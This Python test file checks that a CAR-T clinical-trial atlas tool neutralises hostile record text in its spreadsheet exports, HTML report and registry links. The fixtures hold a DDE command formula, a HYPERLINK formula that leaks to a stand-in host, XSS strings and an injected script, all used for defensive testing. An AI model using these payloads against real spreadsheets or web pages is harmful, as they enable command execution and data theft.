"""Outputs cannot be turned against their reader: spreadsheets, Excel's limits, the report's scripts and links.

The hostile records are real sample records (tests/hostile.py) with registry
text replaced: formulas a spreadsheet would run, control characters an Excel
file cannot hold, a description longer than an Excel cell; and a curator's
value that is a formula.
"""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import html as html_lib
import json
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

import cartatlas
from cartatlas.cli import app
from cartatlas.knowledge.registries import DEFAULT_URL_TEMPLATE as ICTRP_URL
from cartatlas.report.html import pubmed_url, registry_url
from cartatlas.spreadsheet import FORMULA_TRIGGERS, neutralise, neutralise_sql
from tests.conftest import CTGOV
from tests.hostile import LEUKEMIA, hostile_study, write_studies

runner = CliRunner()

TITLE_CMD = "=cmd|' /C calc'!A0 CD19 CAR-T cells"
SPONSOR_LINK = '=HYPERLINK("http://example.invalid/?leak","click")'
TITLE_CONTROL = "CD19 CAR-T\x0b cells \x1b[31m red"
SPONSOR_CONTROL = "Southwest\x1b Hospital"
CURATED = "=2+5"


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The leukemia sample plus three hostile copies of a real CD19 CAR-T record, and a curator's formula."""
    tmp = tmp_path_factory.mktemp("hostile5")
    formula = hostile_study("NCT99999901", title=TITLE_CMD, sponsor=SPONSOR_LINK)
    formula["protocolSection"]["designModule"]["enrollmentInfo"]["count"] = -5  # a number, not text
    formula["protocolSection"]["conditionsModule"]["conditions"].insert(0, "@SUM(1+1)")
    control = hostile_study("NCT99999902", title=TITLE_CONTROL, sponsor=SPONSOR_CONTROL)
    long = hostile_study("NCT99999903")
    long["protocolSection"]["descriptionModule"]["detailedDescription"] = "A long protocol. " * 2500  # 42,500
    # A trial the review lists (conflicting labels, medium confidence), with a formula for a title.
    review = hostile_study("NCT99999904", title="-2+3 " + TITLE_CMD, base_id="NCT04100187")
    records = write_studies(tmp / "hostile.json", [formula, control, long, review])
    curation = tmp / "curation.csv"
    curation.write_text(
        "trial_id,field,value,reason,curator,date\n"
        f'NCT99999901,products,"{CURATED}",named in the protocol,tester,2030-01-01\n',
        encoding="utf-8",
    )
    path = tmp / "h.duckdb"
    with cartatlas.open(path) as atlas:
        atlas.import_files([LEUKEMIA, records])
        outcomes = atlas.curate(curation)
    # Applied, and flagged: "=2+5" is no product the catalogue knows.
    assert [o.status for o in outcomes] == ["new_name", "applied"]
    return path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _assert_no_formula_text(rows: list[dict[str, str]]) -> None:
    """Every cell that starts like a formula is a number (such as -5)."""
    for row in rows:
        for col, cell in row.items():
            if cell.startswith(FORMULA_TRIGGERS):
                assert _is_number(cell), (row.get("trial_id") or row.get("unit_id"), col, cell)


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


# -- formulas ------------------------------------------------------------------------------------------


def test_export_csv_neutralises_text_but_not_numbers(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _csv_cells(out)
    row = next(r for r in rows if r["trial_id"] == "NCT99999901")
    assert row["brief_title"] == "'" + TITLE_CMD
    assert row["lead_sponsor"] == "'" + SPONSOR_LINK
    assert row["conditions"] == "'@SUM(1+1); Leukemia; Lymphoma"
    assert row["products"] == "'" + CURATED  # the curator's value
    assert row["enrollment"] == "-5"  # a number stays a number
    _assert_no_formula_text(rows)
    # JSON lines keep the text as it is stored: it is read by programs, not spreadsheets.
    jsonl = tmp_path / "t.jsonl"
    runner.invoke(app, ["export", "--db", str(db), "--format", "jsonl", "--out", str(jsonl)])
    obj = next(o for o in map(json.loads, jsonl.read_text().splitlines()) if o["trial_id"] == "NCT99999901")
    assert obj["brief_title"] == TITLE_CMD and obj["products"] == [CURATED]


def test_export_xlsx_has_no_formula_cells_and_says_what_it_changed(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output  # openpyxl's IllegalCharacterError stopped it
    cells = _xlsx_cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    wb = openpyxl.load_workbook(out)
    ws = wb["trials"]
    header = [c.value for c in ws[1]]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == 104
    assert rows["NCT99999901"]["brief_title"] == "'" + TITLE_CMD
    assert rows["NCT99999901"]["lead_sponsor"] == "'" + SPONSOR_LINK
    assert rows["NCT99999901"]["products"] == "'" + CURATED
    assert rows["NCT99999901"]["enrollment"] == -5  # a numeric cell
    assert rows["NCT99999902"]["brief_title"] == "CD19 CAR-T\ufffd cells \ufffd[31m red"
    assert rows["NCT99999902"]["lead_sponsor"] == "Southwest\ufffd Hospital"
    description = rows["NCT99999903"]["detailed_description"]
    assert len(description) == 32_767 and description.endswith(" [cut: Excel cell limit]")
    # The command says what it changed, in its own output.
    assert "t.xlsx: 2 cells held characters an Excel file cannot store" in result.stderr
    # The injected description, and a real record whose list of sites (the export's normalised places) is too long.
    assert "t.xlsx: 2 cells cut at Excel's 32,767-character limit: trials row" in result.stderr
    assert "(trial_id NCT01949129), column sites" in result.stderr
    assert "(trial_id NCT99999903), column detailed_description" in result.stderr
    # The database keeps the raw text.
    with cartatlas.open(db, read_only=True) as atlas:
        assert atlas.sql("SELECT brief_title FROM trials WHERE trial_id = 'NCT99999902'").iloc[0, 0] == TITLE_CONTROL


def test_report_tables_are_safe_and_the_report_is_written(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "rep"
    result = runner.invoke(app, ["report", "--db", str(db), "--as-of", "2023-12-31", "--out", str(out)])
    assert result.exit_code == 0, result.output  # the control characters stopped it (and crashed the figures)
    assert (out / "index.html").is_file()
    trials = _csv_cells(out / "tables" / "trials.csv")
    row = next(r for r in trials if r["unit_id"] == "NCT99999901")
    assert row["brief_title"] == "'" + TITLE_CMD and row["lead_sponsor"] == "'" + SPONSOR_LINK
    assert row["products"] == "'" + CURATED
    for table in (out / "tables").glob("*.csv"):
        _assert_no_formula_text(_csv_cells(table))
    cells = _xlsx_cells(out / "tables" / "cartatlas_tables.xlsx")
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + TITLE_CMD in {c.value for c in cells}
    assert "CD19 CAR-T\ufffd cells \ufffd[31m red" in {c.value for c in cells}
    notes = re.findall(r"tables/cartatlas_tables\.xlsx: (\d+) cells held characters", result.stderr)
    assert notes and int(notes[0]) >= 2  # title and sponsor of NCT99999902, in every table that lists them
    assert re.search(r"figures: \d+ labels? held characters an image cannot show", result.stderr)
    # The figures still show the sponsor, with the character replaced.
    svg = (out / "figures" / "fig_top_sponsors.svg").read_text()
    assert "\x1b" not in svg


@given(st.text())
@example("\tx")
@example("\rx")
@example("-5")
@example("'=x")
@example("")
@example("@")
@example("a=b")
@settings(deadline=None)  # each example runs a DuckDB query: its time varies with the machine's load
def test_neutralise_in_python_and_in_sql_agree(text: str) -> None:
    import duckdb

    con = duckdb.connect()
    (sql,) = con.execute(f"SELECT {neutralise_sql('$1')}", [text]).fetchone() or (None,)
    assert sql == neutralise(text)
    assert not neutralise(text).startswith(FORMULA_TRIGGERS)
    assert neutralise(text).removeprefix("'") == text or neutralise(text) == text


# -- the report's scripts ------------------------------------------------------------------------------


def _inline_scripts(html: str) -> list[str]:
    return [
        m.group(2)
        for m in re.finditer(r"<script([^>]*)>(.*?)</script>", html, re.S)
        if "application/json" not in m.group(1)
    ]


def _csp(html: str) -> dict[str, list[str]]:
    m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert m is not None
    policy = html_lib.unescape(m.group(1))  # as the browser reads the attribute
    return {d.split()[0]: d.split()[1:] for d in (p.strip() for p in policy.split(";")) if d}


def test_csp_allows_only_the_page_s_own_script(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "rep"
    with cartatlas.open(db, read_only=True) as atlas:
        atlas.report(out, as_of="2023-12-31", figures=False)
    html = (out / "index.html").read_text()
    csp = _csp(html)
    assert "'unsafe-inline'" not in csp["script-src"]
    scripts = _inline_scripts(html)
    assert len(scripts) == 1
    for body in scripts:
        digest = base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode()
        assert f"'sha256-{digest}'" in csp["script-src"]
    assert csp["default-src"] == ["'none'"] and csp["base-uri"] == ["'none'"] and csp["form-action"] == ["'none'"]


CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"


def _chromium_dom(page: Path, fragment: str = "") -> str:
    if not Path(CHROMIUM).exists():
        pytest.skip("Chromium is not installed (apt-get install chromium)")
    proc = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000", "--dump-dom",
         page.as_uri() + fragment],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-2000:]
    return proc.stdout


def test_in_a_browser_the_page_s_script_runs_and_an_injected_one_does_not(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "rep"
    with cartatlas.open(db, read_only=True) as atlas:
        atlas.report(out, as_of="2023-12-31", figures=False)
    # The page's own script opens a trial's panel from the address (#trial=ID), as a reader's link does.
    dom = _chromium_dom(out / "index.html", "#trial=NCT99999901")
    panel = re.search(r'<aside id="panel"([^>]*)>(.*?)</aside>', dom, re.S)
    assert panel is not None and "open" in panel.group(1)
    assert TITLE_CMD.replace("'", "&#39;") in panel.group(2) or TITLE_CMD in panel.group(2)
    # A script that got into the page (by any route) is not run: its hash is not in the policy.
    html = (out / "index.html").read_text()
    injected = out / "injected.html"
    injected.write_text(html.replace("</main>", '<script>document.body.dataset.pwned = "yes";</script></main>'))
    dom = _chromium_dom(injected)
    assert "data-pwned" not in dom
    assert "<main" in dom


# -- registry links ------------------------------------------------------------------------------------


def test_registry_links_only_for_well_formed_ids() -> None:
    assert registry_url("ctgov", "NCT02349698") == "https://clinicaltrials.gov/study/NCT02349698"
    assert registry_url("chictr", "ChiCTR2000034346") == ICTRP_URL.format(id="ChiCTR2000034346")
    assert registry_url("euctr", "EUCTR2020-001162-12-FR") == ICTRP_URL.format(id="EUCTR2020-001162-12-FR")
    assert registry_url("ctri", "CTRI/2020/04/024773") == ICTRP_URL.format(id="CTRI/2020/04/024773")
    for registry, bad in [
        ("chictr", 'ChiCTR2000034346"><script>alert(1)</script>'),
        ("chictr", "ChiCTR2000034346&Lang=x#"),
        ("euctr", "javascript:alert(1)"),
        ("ctgov", "NCT0234969"),
        ("ctgov", "ChiCTR2000034346"),  # a ChiCTR id is not a ClinicalTrials.gov study
        ("chictr", "NCT02349698 "),
        ("isrctn", ""),
    ]:
        assert registry_url(registry, bad) is None, bad
    assert pubmed_url("32999455") == "https://pubmed.ncbi.nlm.nih.gov/32999455/"
    assert pubmed_url("32999455/../x") is None


def test_every_ictrp_sample_id_gets_its_link() -> None:
    """The validation costs no real record its link: every trial id in the WHO ICTRP samples matches."""
    from tests.ictrp_samples import sample_db

    with cartatlas.open(sample_db(), read_only=True) as atlas:
        ids = atlas.sql("SELECT registry, trial_id FROM trials WHERE registry <> 'pubmed'")
    missing = [(r, t) for r, t in zip(ids["registry"], ids["trial_id"], strict=True) if registry_url(r, t) is None]
    assert len(ids) == 1474
    assert missing == []


def test_a_malformed_ictrp_id_gets_no_link_in_the_report(db: Path, tmp_path: Path) -> None:
    from cartatlas.report.html import _trial_payload

    with cartatlas.open(db, read_only=True) as atlas:
        land = atlas.landscape("2023-12-31")
    units = land.units.copy()
    first = units.index[0]
    units.at[first, "registrations"] = ["ctgov:NCT99999901", "chictr:ChiCTR2000034346&x=<b>"]
    land.units = units
    payload = _trial_payload(land)[str(units.at[first, "unit_id"])]
    assert payload["links"] == [
        ["ctgov:NCT99999901", "https://clinicaltrials.gov/study/NCT99999901"],
        ["chictr:ChiCTR2000034346&x=<b>", None],
    ]


def test_real_records_too_long_for_excel_or_starting_like_a_formula(tmp_path: Path) -> None:
    """Two real records of the monitor corpus: NCT02828358 lists so many sites that their JSON exceeds an
    Excel cell, and NCT07280494's primary outcome is '+1m MRD negtaive rate' (a spreadsheet reads '+1m...'
    as a formula)."""
    corpus = CTGOV / "reconstructed" / "cart_monitor_2026-08-22.jsonl.gz"
    with gzip.open(corpus, "rt", encoding="utf-8") as fh:
        lines = [x for x in fh if '"NCT02828358"' in x or '"NCT07280494"' in x]
    assert len(lines) == 2
    record = tmp_path / "two.jsonl"
    record.write_text("".join(lines), encoding="utf-8")
    db = tmp_path / "long.duckdb"
    with cartatlas.open(db) as atlas:
        atlas.import_files([record])
    out = tmp_path / "long.xlsx"
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith(
        "note: long.xlsx: 1 cell cut at Excel's 32,767-character limit: trials row 1 (trial_id NCT02828358), "
        "column sites\n"
    )
    ws = openpyxl.load_workbook(out)["trials"]
    header = [c.value for c in ws[1]]
    sites = ws.cell(row=2, column=header.index("sites") + 1).value
    assert len(sites) == 32_767 and sites.endswith(" [cut: Excel cell limit]")
    assert ws.cell(row=3, column=header.index("primary_outcomes") + 1).value == "'+1m MRD negtaive rate"
    csv_out = tmp_path / "two.csv"
    runner.invoke(app, ["export", "--db", str(db), "--format", "csv", "--out", str(csv_out)])
    rows = {r["trial_id"]: r for r in _csv_cells(csv_out)}
    assert rows["NCT07280494"]["primary_outcomes"] == "'+1m MRD negtaive rate"
    assert json.loads(rows["NCT02828358"]["sites"])[0]["country"]  # CSV has no cell limit: the whole JSON


def test_review_out_and_disagreements_csv_are_neutralised(db: Path, tmp_path: Path) -> None:
    from cartatlas.classify.evaluate import Disagreement, Report, write_disagreements

    out = tmp_path / "review.csv"
    result = runner.invoke(app, ["review", "--db", str(db), "--limit", "1000", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _csv_cells(out)
    _assert_no_formula_text(rows)
    (hostile,) = [r for r in rows if r["trial_id"] == "NCT99999904"]
    assert hostile["brief_title"] == "'-2+3 " + TITLE_CMD and hostile["targets"] == "CD19"
    assert all(not r["targets"].startswith("[") for r in rows)  # lists joined with '; ', not Python reprs
    disagreements = tmp_path / "d.csv"
    report = Report({}, [Disagreement("NCT99999901", "targets", "CD19", "=2+5", TITLE_CMD, "@note")], [], 1)
    write_disagreements(report, disagreements)
    (row,) = _csv_cells(disagreements)
    assert row == {"trial_id": "NCT99999901", "field": "targets", "cartatlas": "CD19", "labels": "'=2+5",
                   "cartatlas_evidence": "'" + TITLE_CMD, "label_note": "'@note"}  # fmt: skip
